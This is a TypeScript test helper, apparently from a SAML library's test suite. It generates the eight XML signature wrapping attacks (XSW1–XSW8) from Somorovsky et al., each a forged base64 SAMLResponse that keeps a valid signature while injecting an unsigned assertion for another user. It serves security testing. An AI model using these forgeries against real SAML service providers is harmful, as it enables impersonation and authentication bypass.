/**
 * The eight XML signature wrapping attacks of Somorovsky et al., "On Breaking SAML: Be Whoever You
 * Want to Be" (2012), as SAML Raider builds them, applied to a signed Response from
 * test/helpers/saml-idp.ts. Each keeps the original signed element (so its signature still verifies)
 * and adds an evil copy, unsigned, naming another user, where a careless verifier would read it:
 *
 * - XSW1/XSW2 (Response signature): an evil Response becomes the root; the original Response goes
 *   inside the Signature (1) or beside it (2).
 * - XSW3–XSW8 (Assertion signature): the evil Assertion goes before the original (3), wraps it (4),
 *   takes the original's signature while the original moves to the end (5) or into that signature
 *   (6), sits in an Extensions element before the original (7), or takes the signature with the
 *   original, unsigned, in a ds:Object inside it (8).
 */
import { DOMParser, XMLSerializer, type Document, type Element } from '@xmldom/xmldom';
import { samlId } from './saml-idp.ts';

const DS = 'http://www.w3.org/2000/09/xmldsig#';
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';

type XswVariant = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';
export const XSW_VARIANTS: XswVariant[] = ['XSW1', 'XSW2', 'XSW3', 'XSW4', 'XSW5', 'XSW6', 'XSW7', 'XSW8'];

const parse = (xml: string) => new DOMParser().parseFromString(xml, 'text/xml');

function child(parent: Element, ns: string, name: string): Element | null {
  for (let node = parent.firstChild; node; node = node.nextSibling) {
    if (node.nodeType === 1 && (node as Element).namespaceURI === ns && (node as Element).localName === name) return node as Element;
  }
  return null;
}

/** Makes `element` (a copy) the attacker's: a new ID, no signature of its own, the evil NameID. */
function evilCopy(element: Element, evilNameId: string): Element {
  const copy = element.cloneNode(true) as Element;
  copy.setAttribute('ID', samlId());
  const signature = child(copy, DS, 'Signature');
  if (signature) copy.removeChild(signature);
  for (const nameId of Array.from(copy.getElementsByTagNameNS(SAML, 'NameID'))) nameId.textContent = evilNameId;
  for (const assertion of Array.from(copy.getElementsByTagNameNS(SAML, 'Assertion'))) {
    if (assertion !== copy) assertion.setAttribute('ID', samlId());
    const inner = child(assertion, DS, 'Signature');
    if (inner) assertion.removeChild(inner);
  }
  return copy;
}

function insertAfterIssuer(parent: Element, node: Element): void {
  const issuer = child(parent, SAML, 'Issuer');
  parent.insertBefore(node, issuer ? issuer.nextSibling : parent.firstChild);
}

function build(doc: Document, variant: XswVariant, evilNameId: string): void {
  const response = doc.documentElement!;
  const assertion = child(response, SAML, 'Assertion')!;
  const assertionSignature = child(assertion, DS, 'Signature')!;
  switch (variant) {
    case 'XSW1':
    case 'XSW2': {
      const original = response.cloneNode(true) as Element;
      const evil = evilCopy(response, evilNameId);
      const signature = child(response, DS, 'Signature')!.cloneNode(true) as Element;
      if (variant === 'XSW1') signature.appendChild(original);
      insertAfterIssuer(evil, signature);
      if (variant === 'XSW2') evil.insertBefore(original, signature);
      doc.replaceChild(evil, response);
      return;
    }
    case 'XSW3':
      response.insertBefore(evilCopy(assertion, evilNameId), assertion);
      return;
    case 'XSW4': {
      const evil = evilCopy(assertion, evilNameId);
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
      return;
    }
    case 'XSW5':
    case 'XSW6':
    case 'XSW8': {
      const evil = evilCopy(assertion, evilNameId);
      const signature = assertionSignature.cloneNode(true) as Element;
      insertAfterIssuer(evil, signature);
      response.replaceChild(evil, assertion);
      if (variant === 'XSW5') {
        response.appendChild(assertion);
      } else if (variant === 'XSW6') {
        signature.appendChild(assertion);
      } else {
        assertion.removeChild(assertionSignature);
        const object = doc.createElementNS(DS, 'ds:Object');
        object.appendChild(assertion);
        signature.appendChild(object);
      }
      return;
    }
    case 'XSW7': {
      const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
      extensions.appendChild(evilCopy(assertion, evilNameId));
      response.insertBefore(extensions, assertion);
      return;
    }
  }
}

/** The base64 SAMLResponse of each attack on `signedResponseXml`. */
export function xswVariants(signedResponseXml: string, evilNameId: string): Record<XswVariant, string> {
  const out = {} as Record<XswVariant, string>;
  for (const variant of XSW_VARIANTS) {
    const doc = parse(signedResponseXml);
    build(doc, variant, evilNameId);
    out[variant] = Buffer.from(new XMLSerializer().serializeToString(doc)).toString('base64');
  }
  return out;
}
